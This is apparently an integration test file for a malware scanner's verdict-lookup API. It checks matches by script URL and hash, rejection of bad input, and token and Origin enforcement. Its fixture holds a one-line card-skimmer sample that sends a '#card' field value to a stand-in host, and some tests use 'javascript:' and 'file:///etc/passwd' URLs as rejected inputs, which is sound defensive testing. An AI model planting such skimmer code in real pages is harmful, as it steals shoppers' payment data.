"""POST /api/v1/verdicts/lookup in a real ``malwaresnipper serve``: known verdicts by script URL,
sha256 and page URL; bad input gets its 4xx JSON error; the token and Origin checks hold."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from typing import Any

import aiohttp
import pytest
from helpers.api import Gateway

pytestmark = pytest.mark.integration

SKIM_URL = "https://cdn.skim-lookup.example/pay.js"
SKIM_TEXT = "var c = document.querySelector('#card'); new Image().src = '//x.example/?' + c.value;"
SKIM_SHA = hashlib.sha256(SKIM_TEXT.encode()).hexdigest()


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    # a generous scan budget: the first scan waits for the worker to start on a busy machine
    gw = Gateway(tmp_path_factory.mktemp("gw-lookup"),
                 config="[server]\nrate_limit_per_minute = 0\n[proxy]\nscan_timeout_ms = 30000\n")
    gw.start()
    try:
        yield gw
    finally:
        gw.stop()


async def _scan(gw: Gateway, s: aiohttp.ClientSession, body: dict[str, Any]) -> dict[str, Any]:
    status, reply = await gw.call(s, "POST", "/api/v1/scans?wait=true", body)
    assert status == 200, reply
    return reply


async def test_lookup_answers_the_newest_known_verdicts(gateway: Gateway) -> None:
    async with aiohttp.ClientSession() as s:
        status, _ = await gateway.call(s, "POST", "/api/v1/lists/block", {"entry": SKIM_URL, "kind": "url"})
        assert status == 201
        script = await _scan(gateway, s, {"url": SKIM_URL, "scripts": [{"url": SKIM_URL, "text": SKIM_TEXT,
                                                                          "inline": False}]})
        assert script["verdict"]["threat_level"] == "MALICIOUS"
        page = await _scan(gateway, s, {"url": "https://shop-lookup.example/checkout", "title": "Checkout",
                                        "html": "<html><body><h1>Checkout</h1></body></html>"})
        body = {"scripts": [{"url": "http://CDN.skim-lookup.example/pay.js#top"},
                            {"sha256": SKIM_SHA.upper()},
                            {"url": "https://cdn.unknown-lookup.example/a.js", "sha256": "0" * 64}],
                "pages": ["https://shop-lookup.example/checkout#pay", "https://never-seen.example/"]}
        status, reply = await gateway.call(s, "POST", "/api/v1/verdicts/lookup", body)
    assert status == 200, reply
    by_url, by_sha, unknown = reply["scripts"]
    assert by_url["match"] == "url" and by_sha["match"] == "sha256" and by_sha["sha256"] == SKIM_SHA
    for known in (by_url["known"], by_sha["known"]):
        assert known["scan_id"] == script["scan_id"] and known["threat_level"] == "MALICIOUS"
        assert known["url"] == SKIM_URL and known["headline"]["id"] == "reputation.blocklisted_url"
    assert unknown["known"] is None and unknown["match"] is None
    seen, never = reply["pages"]
    assert seen["known"]["scan_id"] == page["scan_id"] and seen["known"]["threat_level"] == "BENIGN"
    assert never == {"url": "https://never-seen.example/", "known": None}


@pytest.mark.parametrize(("body", "status", "code"), [
    ([1], 400, "invalid_body"),
    ({}, 400, "invalid_body"),
    ({"scripts": "https://a.example/x.js"}, 400, "invalid_field"),
    ({"scripts": [{}]}, 400, "invalid_field"),
    ({"scripts": [{"url": "javascript:alert(1)"}]}, 400, "invalid_url"),
    ({"scripts": [{"url": 5}]}, 400, "invalid_field"),
    ({"scripts": [{"sha256": "xyz"}]}, 400, "invalid_field"),
    ({"scripts": [{"url": "https://a.example/x.js", "text": "alert(1)"}]}, 400, "invalid_field"),
    ({"pages": ["https://a.example/" + "a" * 3000]}, 400, "invalid_field"),
    ({"pages": ["file:///etc/passwd"]}, 400, "invalid_url"),
    ({"pages": [f"https://a.example/{i}" for i in range(21)]}, 413, "too_many"),
    ({"scripts": [{"url": f"https://a.example/{i}.js"} for i in range(101)]}, 413, "too_many"),
    ({"pages": [], "other": 1}, 400, "invalid_field"),
])
async def test_bad_lookups_get_4xx_json_errors(gateway: Gateway, body: Any, status: int, code: str) -> None:
    async with aiohttp.ClientSession() as s:
        got, reply = await gateway.call(s, "POST", "/api/v1/verdicts/lookup", body)
    assert (got, reply["error"]["code"]) == (status, code), reply
    assert reply["error"]["message"]


async def test_lookup_needs_the_token_and_refuses_foreign_origins(gateway: Gateway) -> None:
    body = {"pages": ["https://a.example/"]}
    async with aiohttp.ClientSession() as s:
        no_token, reply = await gateway.call(s, "POST", "/api/v1/verdicts/lookup", body, auth=False)
        assert no_token == 401 and reply["error"]["code"]
        wrong, _ = await gateway.call(s, "POST", "/api/v1/verdicts/lookup", body, token="not-the-token-" * 3)
        assert wrong == 401
        foreign, reply = await gateway.call(s, "POST", "/api/v1/verdicts/lookup", body,
                                            headers={"Origin": "https://evil.example"})
        assert foreign == 403, reply
        bad_json, reply = await gateway.call(s, "POST", "/api/v1/verdicts/lookup", data=b"{nope")
        assert bad_json == 400 and reply["error"]["code"] == "invalid_json"
